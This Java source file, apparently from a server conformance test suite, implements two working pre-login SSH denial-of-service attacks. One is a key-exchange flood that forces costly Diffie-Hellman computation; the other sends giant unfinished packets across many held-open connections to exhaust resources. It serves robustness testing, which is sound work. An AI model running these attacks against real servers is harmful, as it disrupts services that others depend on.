package dev.slipway.conformance;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/** Attacks on SSH before login. The messages are those of RFC 4253. */
final class SshAttacks {
    private static final byte[] VERSION = "SSH-2.0-hostile\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int KEXINIT = 20;
    private static final int KEXDH_INIT = 30;
    private static final int GIANT = 256 * 1024;

    private SshAttacks() {}

    /** Offers one method of key exchange, and makes the server compute for it. */
    static final class KeyExchangeFlood extends Attack {
        /** With the sizes of the numbers that clients send, in bytes. */
        private static final List<Method> METHODS = List.of(
                new Method("diffie-hellman-group18-sha512", 1023),
                new Method("diffie-hellman-group16-sha512", 511),
                new Method("diffie-hellman-group14-sha256", 255),
                new Method("curve25519-sha256", 32));

        private record Method(String name, int bytes) {}

        private final int port;

        KeyExchangeFlood(int port) {
            this.port = port;
        }

        @Override
        String title() {
            return "key exchange flood";
        }

        @Override
        int workers() {
            return 8;
        }

        @Override
        void work(int worker) throws InterruptedException {
            SplittableRandom random = new SplittableRandom(worker);
            while (!isOver()) {
                Method method = METHODS.get((int) (done() % METHODS.size()));
                try (Socket socket = connect(port, worker)) {
                    byte[] number = new byte[method.bytes()];
                    random.nextBytes(number);
                    // Positive, and of full length.
                    number[0] = (byte) ((number[0] & 0x7f) | 0x40);
                    socket.getOutputStream().write(VERSION);
                    drain(socket, 2000);
                    socket.getOutputStream().write(packet(offer(method.name())));
                    ByteArrayOutputStream init = new ByteArrayOutputStream();
                    DataOutputStream data = new DataOutputStream(init);
                    data.writeByte(KEXDH_INIT);
                    data.writeInt(number.length);
                    data.write(number);
                    socket.getOutputStream().write(packet(init.toByteArray()));
                    drain(socket, 1000);
                } catch (IOException e) {
                    // A refusal is a good answer.
                }
                count();
                // Limits the rate: a mere flood of connections is a task for firewalls.
                Thread.sleep(20);
            }
        }
    }

    /** Announces a packet larger than any that is needed before login, and sends all of it except its end. */
    static final class GiantPackets extends Attack {
        private static final int CONNECTIONS = 60;
        private final int port;

        GiantPackets(int port) {
            this.port = port;
        }

        @Override
        String title() {
            return "giant packets";
        }

        @Override
        int workers() {
            return 10;
        }

        @Override
        void work(int worker) throws IOException, InterruptedException {
            List<Socket> open = new ArrayList<>();
            byte[] most = new byte[GIANT];
            most[1] = 4;
            try {
                while (!isOver()) {
                    if (open.size() >= CONNECTIONS) {
                        open.removeFirst().close();
                        Thread.sleep(100);
                    }
                    try {
                        Socket socket = connect(port, worker);
                        open.add(socket);
                        socket.getOutputStream().write(VERSION);
                        socket.getOutputStream().write(most);
                        count();
                    } catch (SocketException | SocketTimeoutException e) {
                        Thread.sleep(20);
                    }
                }
            } finally {
                for (Socket socket : open) {
                    socket.close();
                }
            }
        }
    }

    private static byte[] offer(String method) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream data = new DataOutputStream(bytes);
        data.writeByte(KEXINIT);
        data.write(new byte[16]);
        for (String names : List.of(
                method,
                "ssh-ed25519,rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256",
                "aes128-ctr,aes256-ctr,aes128-gcm@openssh.com",
                "aes128-ctr,aes256-ctr,aes128-gcm@openssh.com",
                "hmac-sha2-256,hmac-sha2-512",
                "hmac-sha2-256,hmac-sha2-512",
                "none",
                "none",
                "",
                "")) {
            data.writeInt(names.length());
            data.writeBytes(names);
        }
        data.writeByte(0);
        data.writeInt(0);
        return bytes.toByteArray();
    }

    /** A packet as it is sent before the key exchange. */
    private static byte[] packet(byte[] payload) throws IOException {
        int padding = 8 - (payload.length + 5) % 8;
        if (padding < 4) {
            padding += 8;
        }
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream data = new DataOutputStream(bytes);
        data.writeInt(payload.length + padding + 1);
        data.writeByte(padding);
        data.write(payload);
        data.write(new byte[padding]);
        return bytes.toByteArray();
    }
}
